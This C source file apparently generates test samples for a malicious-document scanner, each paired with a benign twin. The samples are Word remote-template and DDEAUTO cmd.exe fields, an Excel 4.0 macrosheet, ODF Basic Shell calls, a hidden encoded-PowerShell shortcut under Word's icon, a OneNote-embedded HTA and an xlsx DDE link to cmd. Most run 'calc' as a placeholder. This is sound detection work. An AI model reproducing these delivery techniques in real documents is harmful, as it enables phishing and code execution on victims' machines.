/*
 * office.c - OOXML and ODF packages whose parts make the document act:
 * remote templates, DDE fields, Excel 4.0 macro sheets, embedded objects,
 * ODF Basic; each with the benign document it must not be confused with.
 */
#include <string.h>

#include "samples.h"

#define CT_DOCX                                                                                                  \
	"<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" \
	"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"                                         \
	"<Override PartName=\"/word/document.xml\" ContentType=\"application/"                                 \
	"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"
#define W_NS "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

static void docx(struct sbuf *b, const char *document, const char *settings_rels, const char *extra_name,
		 const void *extra, size_t extra_len)
{
	struct zspec z[6];
	size_t n = 0;
	z[n++] = (struct zspec){.name = "[Content_Types].xml", .data = CT_DOCX, .len = sizeof CT_DOCX - 1, .deflate = 1};
	z[n++] = (struct zspec){.name = "_rels/.rels", .data = "<Relationships/>", .len = 16};
	z[n++] = (struct zspec){.name = "word/document.xml", .data = document, .len = strlen(document), .deflate = 1};
	z[n++] = (struct zspec){.name = "word/settings.xml", .data = "<w:settings xmlns:w=\"" W_NS "\"/>",
				.len = strlen("<w:settings xmlns:w=\"" W_NS "\"/>")};
	if (settings_rels)
		z[n++] = (struct zspec){.name = "word/_rels/settings.xml.rels", .data = settings_rels,
					.len = strlen(settings_rels), .deflate = 1};
	if (extra_name)
		z[n++] = (struct zspec){.name = extra_name, .data = extra, .len = extra_len, .deflate = 1};
	zip_write(b, z, n);
}

static const char plain_doc[] = "<w:document xmlns:w=\"" W_NS "\"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p>"
				"</w:body></w:document>";

#define REL(type, target)                                                                                       \
	"<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" \
	"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" type \
	"\" Target=\"" target "\" TargetMode=\"External\"/></Relationships>"

/* A remote template (the attachedTemplate relationship Word follows on open). */
void o_remote_template(struct sbuf *b)
{
	docx(b, plain_doc, REL("attachedTemplate", "https://cdn.example.net/templates/invoice.dotm"), NULL, NULL, 0);
}
/* Its twin: the local template path Word records for any document made from Normal.dotm. */
void o_local_template(struct sbuf *b)
{
	docx(b, plain_doc,
	     REL("attachedTemplate", "file:///C:/Users/me/AppData/Roaming/Microsoft/Templates/Normal.dotm"), NULL,
	     NULL, 0);
}
/* A hyperlink is external too, and is not fetched on open. */
void o_hyperlink(struct sbuf *b) { docx(b, plain_doc, REL("hyperlink", "https://example.com/"), NULL, NULL, 0); }

/* DDEAUTO split across runs, under another namespace prefix. */
void o_dde(struct sbuf *b)
{
	static const char d[] =
		"<x:document xmlns:x=\"" W_NS "\"><x:body><x:p>"
		"<x:r><x:fldChar x:fldCharType=\"begin\"/></x:r>"
		"<x:r><x:instrText> DDE</x:instrText></x:r><x:r><x:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "
		"\"/k calc\"</x:instrText></x:r>"
		"<x:r><x:fldChar x:fldCharType=\"separate\"/></x:r><x:r><x:t>1</x:t></x:r>"
		"<x:r><x:fldChar x:fldCharType=\"end\"/></x:r></x:p></x:body></x:document>";
	docx(b, d, NULL, NULL, NULL, 0);
}
/* Its twin: ordinary fields (a page number and a hyperlink). */
void o_fields(struct sbuf *b)
{
	static const char d[] =
		"<w:document xmlns:w=\"" W_NS "\"><w:body><w:p>"
		"<w:fldSimple w:instr=\" PAGE \\* MERGEFORMAT \"><w:r><w:t>1</w:t></w:r></w:fldSimple>"
		"<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> HYPERLINK \"https://example.com\" "
		"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p></w:body></w:document>";
	docx(b, d, NULL, NULL, NULL, 0);
}
/* INCLUDEPICTURE from a remote server, in a fldSimple. */
void o_includepicture(struct sbuf *b)
{
	static const char d[] = "<w:document xmlns:w=\"" W_NS "\"><w:body><w:p>"
				"<w:fldSimple w:instr=\"INCLUDEPICTURE &quot;http://203.0.113.9/p.png&quot; \\d\"/>"
				"</w:p></w:body></w:document>";
	docx(b, d, NULL, NULL, NULL, 0);
}
/* A document with an embedded Excel chart: an embedded object, scanned, harmless. */
void o_embedded_chart(struct sbuf *b)
{
	struct sbuf x = {0};
	static const struct zspec inner[] = {{.name = "[Content_Types].xml", .data = "<Types/>", .len = 8},
					     {.name = "xl/workbook.xml", .data = "<workbook/>", .len = 11}};
	zip_write(&x, inner, 2);
	docx(b, plain_doc, NULL, "word/embeddings/Microsoft_Excel_Worksheet.xlsx", x.p, x.len);
	sb_free(&x);
}

/* An .xlsx with an Excel 4.0 macro sheet part. */
void o_xlm_part(struct sbuf *b)
{
	static const struct zspec z[] = {
		{.name = "[Content_Types].xml", .data = "<Types/>", .len = 8},
		{.name = "xl/workbook.xml", .data = "<workbook/>", .len = 11},
		{.name = "xl/macrosheets/sheet1.xml", .data = "<xm:macrosheet/>", .len = 16},
	};
	zip_write(b, z, 3);
}

/* ODF: a text document with a Basic library; its twin without. */
static void odt(struct sbuf *b, bool basic)
{
	static const char mime[] = "application/vnd.oasis.opendocument.text";
	struct zspec z[4] = {
		{.name = "mimetype", .data = mime, .len = sizeof mime - 1},
		{.name = "content.xml", .data = "<office:document-content/>", .len = 26},
		{.name = "META-INF/manifest.xml", .data = "<manifest:manifest/>", .len = 20},
		{.name = "Basic/Standard/Module1.xml",
		 .data = "<script:module script:name=\"Module1\">Sub Main\nShell(\"calc\")\nEnd Sub</script:module>",
		 .len = 83},
	};
	zip_write(b, z, basic ? 4 : 3);
}
void o_odt_basic(struct sbuf *b) { odt(b, true); }
void o_odt_plain(struct sbuf *b) { odt(b, false); }

/* --- shell links ---------------------------------------------------------------- */

static void lnk_str(struct sbuf *b, const char *s)
{
	sb_u16le(b, (uint16_t)strlen(s));
	for (const char *c = s; *c; c++)
		sb_u16le(b, (uint8_t)*c);
}

/* A link to PowerShell with an encoded command, under Word's icon: the 2023-2025 phishing staple. */
void l_powershell(struct sbuf *b)
{
	static const char base[] = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
	sb_put(b, "L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 20);
	sb_u32le(b, 0x02 | 0x20 | 0x40 | 0x80);	/* LinkInfo, arguments, icon, Unicode */
	sb_pad(b, 76);
	/* LinkInfo: header 0x1C bytes, VolumeIDAndLocalBasePath, a 16-byte VolumeID, the base path, an empty suffix. */
	size_t li = b->len, hs = 0x1C, vid = 16;
	uint32_t size = (uint32_t)(hs + vid + sizeof base + 1);
	sb_u32le(b, size);
	sb_u32le(b, (uint32_t)hs);
	sb_u32le(b, 1);
	sb_u32le(b, (uint32_t)hs);		/* VolumeID */
	sb_u32le(b, (uint32_t)(hs + vid));	/* LocalBasePath */
	sb_u32le(b, 0);				/* CommonNetworkRelativeLink */
	sb_u32le(b, (uint32_t)(hs + vid + sizeof base));	/* CommonPathSuffix */
	sb_u32le(b, (uint32_t)vid);
	sb_zero(b, vid - 4);
	sb_put(b, base, sizeof base);
	sb_u8(b, 0);
	(void)li;
	lnk_str(b, "-w hidden -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
	lnk_str(b, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
	sb_u32le(b, 0);	/* no extra data */
}

/* --- OneNote ------------------------------------------------------------------- */

static void onenote(struct sbuf *b, const char *data)
{
	/* The section header GUID (identification), padding, then one FileDataStoreObject. */
	sb_put(b, "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16);
	sb_pad(b, 1024);
	sb_put(b, "\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac", 16);
	sb_u64le(b, strlen(data));
	sb_zero(b, 12);
	sb_str(b, data);
	sb_pad(b, (b->len + 7) & ~(size_t)7);
	sb_put(b, "\x22\xa7\xfb\x71\x79\x0f\x0b\x4a\xbb\x13\x89\x92\x56\x42\x6b\x24", 16);
}
/* An HTA behind "double click to view", as in 2023's lures; its twin a text attachment. */
void n_one_hta(struct sbuf *b)
{
	onenote(b, "<html><head><HTA:APPLICATION ID=\"x\"/></head><body><script language=\"VBScript\">"
		   "CreateObject(\"WScript.Shell\").Run \"cmd /c calc\"</script></body></html>\n");
}
void n_one_txt(struct sbuf *b) { onenote(b, "Minutes of the meeting: nothing to report.\n"); }

/* An Excel workbook whose external link is DDE to cmd. */
void o_xlsx_dde(struct sbuf *b)
{
	static const char link[] =
		"<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
		"<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/>"
		"</ddeItems></ddeLink></externalLink>";
	struct zspec z[] = {
		{.name = "[Content_Types].xml", .data = "<Types/>", .len = 8},
		{.name = "xl/workbook.xml", .data = "<workbook/>", .len = 11},
		{.name = "xl/externalLinks/externalLink1.xml", .data = link, .len = sizeof link - 1, .deflate = 1},
	};
	zip_write(b, z, 3);
}
